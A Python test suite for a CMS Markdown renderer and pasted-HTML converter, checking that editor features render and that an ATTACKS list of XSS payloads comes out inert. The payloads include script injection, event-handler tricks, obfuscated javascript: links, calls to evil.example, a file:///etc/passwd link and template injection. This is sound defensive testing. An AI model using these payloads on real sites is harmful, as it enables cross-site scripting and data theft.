"""Markdown as HTML: the features that editors need, and attempts to inject harmful markup."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from outreach.content import markdown, pasted_html
from outreach.content.markdown import ResponsivePicture, TextTooComplexError, find_references, render

SIZES = ({"width": 400, "height": 300}, {"width": 1200, "height": 900})
PICTURE = ResponsivePicture(
    'Steps "at night"',
    "City <b>",
    tuple(
        {**size, "format": form, "digest": f"{form[0]}{size['width']}" * 3}
        for size in SIZES
        for form in ("webp", "jpg")
    ),
    "/stories/media/",
)
HARMLESS_TAGS = {
    "p", "br", "hr", "h2", "h3", "h4", "h5", "h6", "strong", "em", "s", "blockquote", "code", "pre", "ul", "ol", "li", "a",
    "table", "thead", "tbody", "tr", "th", "td", "sup", "section", "div", "figure", "figcaption", "small", "picture",
    "source", "img",
}  # fmt: skip
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror=alert(1)>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<style>*{background:url(//evil.example)}</style>",
    '<p style="position:fixed">x</p>',
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,x></object>",
    "<embed src=x><base href=//evil.example><meta http-equiv=refresh content=0><link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><input name=x><button>go</button></form>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:x) [x](data:text/html;base64,PHNjcmlwdD4=) [x](file:///etc/passwd) [x](blob:x) [x](ftp://x)",
    "[x](x:alert(1)) [x](jav\u200bascript:alert(1)) [x](\u202ejavascript:alert(1))",
    "<javascript:alert(1)> <data:text/html,x>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](/a \"onmouseover=alert(1)\") [x](/a '\"><script>alert(1)</script>')",
    '[x](/a"onmouseover="alert(1))',
    '![x" onerror="alert(1)](picture:1)',
    '![x](picture:1 "\\" onerror=\\"alert(1)")',
    "![x](http://evil.example/pixel.png) ![x](//evil.example/x) ![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x](/admin/logout/) ![x](picture:1/../x) ![x](PICTURE:1) ![x](picture:99)",
    "![[x](javascript:alert(1))](picture:1)",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "~~~\"><script>alert(1)</script>\nx\n~~~",
    "`<script>`",
    "[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: x",
    "[^a\"onclick=x]\n\n[^a\"onclick=x]: <img src=x onerror=alert(1)>",
    "|<script>|\n|:-:\" onload=x|\n|<img src=x onerror=alert(1)>|",
    "| a |\n|:--|\n| [x](javascript:alert(1)) |",
    "# <img src=x onerror=alert(1)>",
    "> <script>alert(1)</script>",
    "1. <script>\n   - <svg/onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;",
    "\u202ecod.evil\u202c \u2066x\u2069 \ufeff\u200b",
    "<a href='javascript:alert(1)'>x</a><a href=/x target=_blank ping=//evil.example>x</a>",
    "<div id=forms><input name=attributes></div>",
    "{{ settings.SECRET_KEY }} {% load static %}",
]  # fmt: skip


class Read(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)


def is_harmless(html: str) -> bool:
    """Only tags and attributes of the list, links of known schemes, pictures of ours."""
    for tag, attributes in Read(html).tags:
        assert tag in HARMLESS_TAGS, tag
        for name, value in attributes.items():
            assert not name.startswith("on"), name
            assert name not in ("style", "target", "ping", "srcdoc", "action", "formaction", "name"), name
            if name in ("src", "srcset"):
                assert all(part.strip().startswith("/stories/media/") for part in value.split(",")), value
            if name == "href":
                assert re.match(r"(https?:|mailto:|tel:|/|#)", value), value
        if tag == "a" and not attributes.get("href", "#").startswith("#"):
            assert attributes["rel"] == "noopener"
        if tag == "img":
            assert attributes["alt"]
    assert not re.search("[\u202a-\u202e\u2066-\u2069\u200b\ufeff]", html)
    return True


def test_attacks_come_out_inert() -> None:
    for attack in ATTACKS:
        assert is_harmless(render(attack, {1: PICTURE})), attack
        everywhere = f"Words {attack} words\n\n- {attack}\n\n> {attack}\n\n| a |\n|---|\n| {attack} |"
        assert is_harmless(render(everywhere, {1: PICTURE})), attack


def test_attacks_that_are_pasted_come_out_inert() -> None:
    for attack in ATTACKS:
        pasted = pasted_html.convert_to_markdown(attack)
        assert is_harmless(render(pasted, {1: PICTURE})), attack


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet=st.sampled_from("ab <>\"'`*_[]()!#|-:^\\&;/=\n\tonscript\u202e"), max_size=120))
def test_any_input_is_rendered_harmless(text: str) -> None:
    assert is_harmless(render(text, {1: PICTURE}))


def test_markdown_is_rendered() -> None:
    html = render("## One\n\n**b** *i* ~~s~~ [map](/map/)\n\n- x\n\n1. y\n\n> q\n\nA note[^n]\n\n[^n]: Said.")
    for part in ("<h2>One</h2>", "<strong>b</strong>", "<em>i</em>", "<s>s</s>", '<a href="/map/" rel="noopener">map</a>',
                 "<li>x</li>", "<li>y</li>", "<blockquote>", '<a href="#fn1" id="fnref1" aria-label="Note 1"', '<li id="fn1">'):  # fmt: skip
        assert part in html


def test_tables_have_heads_and_scroll() -> None:
    html = render("| a | b |\n|---|--:|\n| 1 | 2 |")
    assert '<th scope="col">a</th>' in html
    assert '<td class="end">2</td>' in html
    assert '<div class="table-scroll" tabindex="0" role="region" aria-label="Table">' in html


@pytest.mark.parametrize(
    ("text", "levels"),
    [
        ("# a\n## b\n# c", ["h2", "h3", "h2"]),
        ("### a\n#### b", ["h2", "h3"]),
        ("# a\n#### b\n#### c\n## d", ["h2", "h3", "h3", "h3"]),
        ("###### a", ["h2"]),
        ("Title\n=====\nSub\n---", ["h2", "h3"]),
    ],
)
def test_headings_start_at_h2(text: str, levels: list[str]) -> None:
    assert re.findall(r"<(h\d)>", render(text)) == levels


def test_a_picture_alone_is_a_figure_with_its_credit() -> None:
    html = render('![](picture:1 "At dusk")', {1: PICTURE})
    assert html.startswith("<figure><picture>")
    assert 'alt="Steps &quot;at night&quot;"' in html
    assert "<figcaption>At dusk <small>Picture: City &lt;b&gt;</small></figcaption>" in html
    assert 'type="image/webp"' in html
    assert "1200w" in html
    assert 'width="400" height="300"' in html


def test_an_inline_picture_uses_the_alt_text_of_the_line() -> None:
    html = render("See ![the lamps](picture:1) here", {1: PICTURE})
    assert "<figure>" not in html
    assert 'alt="the lamps"' in html


def test_a_missing_picture_is_replaced_by_its_alt_text() -> None:
    assert "<p>the lamps</p>" in render("![the lamps](picture:7)").replace("figure", "p")


def test_references_of_a_text_are_found() -> None:
    found = find_references(
        "![](picture:3) ![](picture:3) [a](/map/) <https://x.example> ![](http://y.example/z.png)\n\n[^1]: [b](/b/)\n\n[^1]"
    )
    assert (found.pictures, found.foreign) == ([3], ["http://y.example/z.png"])
    assert found.links[:2] == ["/map/", "https://x.example"]


@pytest.mark.parametrize(
    "text",
    [
        "x" * 1_000_000, "[" * 60_000, "*a " * 20_000, ">" * 60_000, "[a](b " * 10_000, "![[]()" * 10_000, "`" * 30_000 + " " + "`" * 29_000,
        "<a href=" * 7_000, "[^1]" * 15_000 + "\n\n[^1]: x", "_a*b" * 15_000, "\\" * 60_000,
    ],
    ids=lambda text: text[:8],
)  # fmt: skip
def test_text_that_would_take_too_long_is_refused_with_a_sentence(text: str) -> None:
    with pytest.raises(TextTooComplexError, match="too long"):
        render(text)


@pytest.mark.parametrize(
    "text",
    [
        "|a" * 200 + "|\n" + "|-" * 200 + "|\n" + ("|x" * 200 + "|\n") * 140,
        "- a\n" * 15_000,
        "a\n" * 30_000,
        "# a\n\n" * 12_000,
        ("[" * 2_900 + "\n\n") * 20,
        ("[a](b " * 480 + "\n\n") * 20,
        ("*a **b " * 900 + "\n\n") * 9,
        "\n".join(" " * depth + "- a" for depth in range(340)),
        "> " * 1_400 + "a",
    ],
    ids=["table", "list", "lines", "headings", "brackets", "links", "stars", "nested list", "nested quotes"],
)
def test_long_but_simple_text_is_rendered(text: str) -> None:
    assert is_harmless(render(text[: markdown.MAX_CHARACTERS]))


class TestPasting:
    def test_a_page_from_word_becomes_markdown(self) -> None:
        html = """<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><style>p.MsoNormal{margin:0}</style>
            <!--[if gte mso 9]><xml><o:Author>Secret Name</o:Author></xml><![endif]--></head><body><!--StartFragment-->
            <h1>Brighter steps</h1>
            <p class=MsoNormal><span style='color:red'>Nine <b style='mso-bidi-font-weight:normal'>lamps</b><o:p></o:p></span></p>
            <p class=MsoListParagraphCxSpFirst style='mso-list:l0 level1 lfo1'><![if !supportLists]><span>·<span>&nbsp;&nbsp;</span></span><![endif]>First</p>
            <p class=MsoListParagraphCxSpLast style='mso-list:l0 level1 lfo1'><span>·<span>&nbsp; </span></span>Second</p>
            <p class=MsoNormal>See <a href="https://riverton.example/a b">the <i>map</i></a>.</p><!--EndFragment--></body></html>"""
        assert pasted_html.convert_to_markdown(html) == (
            "## Brighter steps\n\nNine **lamps**\n\n- First\n- Second\n\nSee [the *map*](https://riverton.example/a%20b)."
        )

    @pytest.mark.parametrize(
        ("html", "markdown"),
        [
            ("<ol><li>a</li><li>b<ul><li>c</li></ul></li></ol>", "1. a\n2. b\n   - c"),
            ("<table><tr><th>A</th><th>B</th></tr><tr><td>1</td><td>2|3</td></tr></table>", "| A | B |\n| --- | --- |\n| 1 | 2\\|3 |"),
            ("<blockquote><p>said</p></blockquote>", "> said"),
            (
                "<table><tr><td></td><td>2024</td><td>2025</td></tr><tr><td>Arrests</td><td></td><td>7</td></tr>"
                "<tr><td>Tips<td>9<td></table>",
                "|  | 2024 | 2025 |\n| --- | --- | --- |\n| Arrests |  | 7 |\n| Tips | 9 |  |",
            ),
            (
                "<table><tr><td colspan=2>Year</td><td>All</td></tr><tr><td rowspan=2>a</td><td>1</td><td>2</td></tr>"
                "<tr><td>3</td><td>4</td></tr></table>",
                "| Year |  | All |\n| --- | --- | --- |\n| a | 1 | 2 |\n|  | 3 | 4 |",
            ),
            ("<table><tr><td>A</td></tr><tr><td>1</td><td>2</td></tr></table>", "| A |  |\n| --- | --- |\n| 1 | 2 |"),
            ("<table><tr><td><p>One</p><p>cell</p></td></tr></table><p>x</p>", "One cell\n\nx"),
            ("<table><tr><td>a<table><tr><td>b</td></tr></table></td><td>c</td></tr></table>", "| a b | c |\n| --- | --- |"),
            ("<table><caption>Tips</caption><tr><td>a</td><td>b</td></tr></table>", "Tips\n\n| a | b |\n| --- | --- |"),
            ('<ol start="7"><li>a</li><li>b</li></ol>', "7. a\n8. b"),
            ('<ol><li>a</li><li value="5">b</li><li>c</li></ol>', "1. a\n5) b\n6) c"),
            ("<ol><li>a</li></ol><ol><li>b</li></ol>", "1. a\n1) b"),
            ('<ol start="10"><li>a<ol><li>b</li></ol></li></ol>', "10. a\n    1. b"),
            ('<ol type="a"><li>a</li><li>b</li></ol>', "- a) a\n- b) b"),
            ('<ol style="list-style-type:upper-roman" start="4"><li>a</li><li>b</li></ol>', "- IV) a\n- V) b"),
            ('<p class=MsoListParagraph>3.&nbsp; a</p><p class=MsoListParagraph>4.&nbsp; b</p>', "3. a\n4. b"),
            ('<p class=MsoListParagraph>b)&nbsp; a</p>', "- b) a"),
            ("<li>2. a</li>", "- 2\\. a"),
            ("<p>1. a</p>", "1\\. a"),
            ('<span style="font-weight:700">bold</span> <span style="font-style:italic">it</span>', "**bold** *it*"),
            ('<b>a</b><b>b</b> <i>c</i>', "**ab** *c*"),
            ("<b>a <i>b</i> c</b>", "**a *b* c**"),
            ('<b><a href="https://a.example">b</a></b>', "**[b](https://a.example)**"),
            ("<p>12 m<sup>2</sup>, H<sub>2</sub>O, 1<sup>st</sup></p>", "12 m², H₂O, 1st"),
            ("<dl><dt>Term</dt><dd>Meaning</dd></dl>", "Term\n\nMeaning"),
            ("<address>Line</address><main>Other</main>", "Line\n\nOther"),
            ("<pre>a\nb</pre>", "a\\\nb"),
            ('<b style="font-weight:normal"><p>plain</p></b>', "plain"),
            ("<p>a<br>b</p>", "a\\\nb"),
            ("<p>2 * 3 [x] # y</p>", "2 \\* 3 \\[x\\] # y"),
            ("<p># no heading</p>", "\\# no heading"),
            ('<a href="javascript:x">words</a>', "words"),
            ("<script>x()</script><p>kept</p><style>y</style>", "kept"),
            ("", ""),
        ],
    )  # fmt: skip
    def test_each_part_keeps_its_meaning(self, html: str, markdown: str) -> None:
        assert pasted_html.convert_to_markdown(html) == markdown

    @pytest.mark.parametrize(
        ("html", "sentence"),
        [
            ("<p>a <img src=x></p>", "Pictures are not pasted"),
            ("<p><math><mi>x</mi></math></p>", "Formulas"),
            ("<p><u>a</u></p>", "Underlining"),
            ('<span style="text-decoration:underline">a</span>', "Underlining"),
            ("<td colspan='2'>a</td>", "Merged cells"),
            ("<table><tr><td><table></table></td></tr></table>", "inside a table"),
            ('<a style="text-decoration:underline" href="/map/">a</a> <td colspan=1><b>b</b></td>', ""),
            ("<table></table><table></table>", ""),
        ],
    )
    def test_what_cannot_be_pasted_is_said(self, html: str, sentence: str) -> None:
        losses = " ".join(pasted_html.find_losses(html))
        assert sentence in losses
        assert bool(sentence) == bool(losses)

    @pytest.mark.parametrize("html", ["<p>" * 20_000, "x" * 2_000_000, "<p>" + "&amp;" * 100_000])
    def test_too_much_gets_a_sentence(self, html: str) -> None:
        with pytest.raises(TextTooComplexError, match="in parts"):
            pasted_html.convert_to_markdown(html)
